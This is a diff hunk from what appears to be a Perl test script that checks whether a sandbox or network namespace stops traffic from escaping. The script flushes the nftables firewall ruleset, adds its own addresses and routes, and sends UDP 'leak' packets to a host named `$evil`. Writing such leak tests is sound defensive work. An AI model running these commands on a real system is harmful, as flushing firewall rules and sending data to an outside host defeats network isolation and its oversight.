@@ -183,7 +183,7 @@ for (1 .. 2) {
   frame(0x86dd, pack("NnCC", 0x60000000, 12, 17, 64) . "\xfd" . "\1" x 15 . "\x20\1\xd\xb8" . "\2" x 12 . udp("leak")); frame(0x1234, "leak");
 }
 # Rules, routes and addresses of its own change nothing.
-system "nft flush ruleset; ip addr add 203.0.113.9/32 dev eth0; ip -6 addr add 2001:db8::2/64 dev eth0 nodad; ip -6 route add default dev eth0; ip route add $evil dev eth0 onlink via $gateway";
+system "nft flush ruleset; ip addr add 203.0.113.9/32 dev eth0; ip -6 addr add 2001:db8::2/64 dev eth0 nodad 2>/dev/null; ip -6 route add default dev eth0 2>/dev/null; ip route add $evil dev eth0 onlink via $gateway";
 for ("0.0.0.0", "203.0.113.9") { socket my $udp, AF_INET, SOCK_DGRAM, 0; bind $udp, sockaddr_in(0, inet_aton($_)); send $udp, "leak", 0, sockaddr_in(443, inet_aton($evil)) }
 print "done\n"
 END
